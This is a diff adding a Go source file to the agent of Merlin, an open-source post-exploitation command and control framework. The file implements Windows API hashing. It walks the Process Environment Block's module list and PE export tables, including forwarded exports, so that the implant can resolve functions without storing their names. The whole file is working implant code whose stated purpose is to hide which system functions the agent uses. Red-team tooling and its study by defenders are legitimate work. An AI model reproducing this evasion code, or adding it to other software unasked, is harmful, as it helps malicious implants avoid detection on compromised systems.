@@ -0,0 +1,230 @@
+// +build windows,apihash,amd64 windows,apihash,386
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"fmt"
+	"strings"
+	"syscall"
+	"unicode/utf16"
+	"unsafe"
+)
+
+// listEntry is the Windows LIST_ENTRY structure
+type listEntry struct {
+	Flink uintptr
+	Blink uintptr
+}
+
+// unicodeString is the Windows UNICODE_STRING structure
+type unicodeString struct {
+	Length        uint16
+	MaximumLength uint16
+	Buffer        uintptr
+}
+
+// peb is the beginning of the Windows Process Environment Block up to the loader data
+type peb struct {
+	Reserved         [4]byte
+	Mutant           uintptr
+	ImageBaseAddress uintptr
+	Ldr              uintptr
+}
+
+// pebLdrData is the beginning of the Windows PEB_LDR_DATA structure
+type pebLdrData struct {
+	Length                  uint32
+	Initialized             uint32
+	SsHandle                uintptr
+	InLoadOrderModuleList   listEntry
+	InMemoryOrderModuleList listEntry
+}
+
+// ldrDataTableEntry is the beginning of the Windows LDR_DATA_TABLE_ENTRY structure for a loaded module
+type ldrDataTableEntry struct {
+	InLoadOrderLinks           listEntry
+	InMemoryOrderLinks         listEntry
+	InInitializationOrderLinks listEntry
+	DllBase                    uintptr
+	EntryPoint                 uintptr
+	SizeOfImage                uintptr
+	FullDllName                unicodeString
+	BaseDllName                unicodeString
+}
+
+// imageExportDirectory is the Windows IMAGE_EXPORT_DIRECTORY structure
+type imageExportDirectory struct {
+	Characteristics       uint32
+	TimeDateStamp         uint32
+	MajorVersion          uint16
+	MinorVersion          uint16
+	Name                  uint32
+	Base                  uint32
+	NumberOfFunctions     uint32
+	NumberOfNames         uint32
+	AddressOfFunctions    uint32
+	AddressOfNames        uint32
+	AddressOfNameOrdinals uint32
+}
+
+// getPEB returns the address of the current process's Process Environment Block from the TEB
+func getPEB() uintptr
+
+// apiProc is a Windows API function that was resolved from a module's export table
+type apiProc struct {
+	addr uintptr
+}
+
+// Addr returns the address of the function
+func (p *apiProc) Addr() uintptr {
+	return p.addr
+}
+
+//go:uintptrescapes
+
+// Call executes the function with the provided arguments, up to 15
+func (p *apiProc) Call(a ...uintptr) (uintptr, uintptr, error) {
+	var args [15]uintptr
+	n := copy(args[:], a)
+	if n < len(a) {
+		return 0, 0, fmt.Errorf("%d arguments is more than the maximum of 15", len(a))
+	}
+	var r1, r2 uintptr
+	var errno syscall.Errno
+	switch {
+	case n <= 3:
+		r1, r2, errno = syscall.Syscall(p.addr, uintptr(n), args[0], args[1], args[2])
+	case n <= 6:
+		r1, r2, errno = syscall.Syscall6(p.addr, uintptr(n), args[0], args[1], args[2], args[3], args[4], args[5])
+	case n <= 9:
+		r1, r2, errno = syscall.Syscall9(p.addr, uintptr(n), args[0], args[1], args[2], args[3], args[4], args[5], args[6], args[7], args[8])
+	case n <= 12:
+		r1, r2, errno = syscall.Syscall12(p.addr, uintptr(n), args[0], args[1], args[2], args[3], args[4], args[5], args[6], args[7], args[8], args[9], args[10], args[11])
+	default:
+		r1, r2, errno = syscall.Syscall15(p.addr, uintptr(n), args[0], args[1], args[2], args[3], args[4], args[5], args[6], args[7], args[8], args[9], args[10], args[11], args[12], args[13], args[14])
+	}
+	return r1, r2, errno
+}
+
+// getProc resolves the function for the provided API hashes by walking the modules in the PEB's loader list and the
+// module's export table, so neither name is stored in the agent. Only modules that are already loaded can be used.
+func getProc(module uint32, function uint32) (winProc, error) {
+	base, err := moduleBase(module)
+	if err != nil {
+		return nil, err
+	}
+	addr, err := exportAddress(base, function)
+	if err != nil {
+		return nil, err
+	}
+	return &apiProc{addr: addr}, nil
+}
+
+// moduleBase returns the base address of the loaded module whose lower case name matches the provided hash
+func moduleBase(module uint32) (uintptr, error) {
+	ldrAddr := (*peb)(toPointer(getPEB())).Ldr
+	ldr := (*pebLdrData)(toPointer(ldrAddr))
+	head := ldrAddr + unsafe.Offsetof(ldr.InMemoryOrderModuleList)
+	linkOffset := unsafe.Offsetof(ldrDataTableEntry{}.InMemoryOrderLinks)
+
+	for link := ldr.InMemoryOrderModuleList.Flink; link != head && link != 0; link = (*listEntry)(toPointer(link)).Flink {
+		entry := (*ldrDataTableEntry)(toPointer(link - linkOffset))
+		if entry.BaseDllName.Buffer == 0 || entry.DllBase == 0 {
+			continue
+		}
+		n := int(entry.BaseDllName.Length / 2)
+		name := string(utf16.Decode((*[1 << 15]uint16)(toPointer(entry.BaseDllName.Buffer))[:n:n]))
+		if apiHash(strings.ToLower(name)) == module {
+			return entry.DllBase, nil
+		}
+	}
+	return 0, fmt.Errorf("the module for API hash 0x%08x is not loaded", module)
+}
+
+// exportAddress returns the address of the function exported by the module at the provided base address whose name
+// matches the provided hash. Exports forwarded to another loaded module are followed.
+func exportAddress(base uintptr, function uint32) (uintptr, error) {
+	if *(*uint16)(toPointer(base)) != 0x5a4d {
+		return 0, fmt.Errorf("the module at 0x%x does not have a DOS header", base)
+	}
+	ntHeaders := base + uintptr(*(*int32)(toPointer(base + 0x3c)))
+	if *(*uint32)(toPointer(ntHeaders)) != 0x4550 {
+		return 0, fmt.Errorf("the module at 0x%x does not have a PE header", base)
+	}
+	// The optional header follows the 4 byte signature and 20 byte file header; the offset of its data directories
+	// depends on whether it is a PE32 or PE32+ image
+	optionalHeader := ntHeaders + 24
+	dataDirectory := optionalHeader + 96
+	if *(*uint16)(toPointer(optionalHeader)) == 0x20b {
+		dataDirectory = optionalHeader + 112
+	}
+	exportRVA := uintptr(*(*uint32)(toPointer(dataDirectory)))
+	exportSize := uintptr(*(*uint32)(toPointer(dataDirectory + 4)))
+	if exportRVA == 0 {
+		return 0, fmt.Errorf("the module at 0x%x does not have an export directory", base)
+	}
+
+	exports := (*imageExportDirectory)(toPointer(base + exportRVA))
+	for i := uintptr(0); i < uintptr(exports.NumberOfNames); i++ {
+		nameRVA := *(*uint32)(toPointer(base + uintptr(exports.AddressOfNames) + i*4))
+		if apiHash(cString(base+uintptr(nameRVA))) != function {
+			continue
+		}
+		ordinal := *(*uint16)(toPointer(base + uintptr(exports.AddressOfNameOrdinals) + i*2))
+		if uint32(ordinal) >= exports.NumberOfFunctions {
+			return 0, fmt.Errorf("the export for API hash 0x%08x has an invalid ordinal %d", function, ordinal)
+		}
+		functionRVA := uintptr(*(*uint32)(toPointer(base + uintptr(exports.AddressOfFunctions) + uintptr(ordinal)*4)))
+
+		// A function address inside the export directory is a forwarder string such as NTDLL.RtlCopyMemory
+		if functionRVA >= exportRVA && functionRVA < exportRVA+exportSize {
+			forwarder := cString(base + functionRVA)
+			dot := strings.LastIndex(forwarder, ".")
+			if dot < 0 || strings.HasPrefix(forwarder[dot+1:], "#") {
+				return 0, fmt.Errorf("the export for API hash 0x%08x is forwarded by ordinal", function)
+			}
+			forwardModule := strings.ToLower(forwarder[:dot]) + ".dll"
+			if strings.HasPrefix(forwardModule, "api-ms-") || strings.HasPrefix(forwardModule, "ext-ms-") {
+				return 0, fmt.Errorf("the export for API hash 0x%08x is forwarded to an API set", function)
+			}
+			forwardBase, err := moduleBase(apiHash(forwardModule))
+			if err != nil {
+				return 0, err
+			}
+			return exportAddress(forwardBase, apiHash(forwarder[dot+1:]))
+		}
+		return base + functionRVA, nil
+	}
+	return 0, fmt.Errorf("the export for API hash 0x%08x was not found in the module at 0x%x", function, base)
+}
+
+// cString reads a null terminated ANSI string, such as an export name, from a loaded module
+func cString(addr uintptr) string {
+	var b []byte
+	for i := uintptr(0); i < 512; i++ {
+		c := *(*byte)(toPointer(addr + i))
+		if c == 0 {
+			break
+		}
+		b = append(b, c)
+	}
+	return string(b)
+}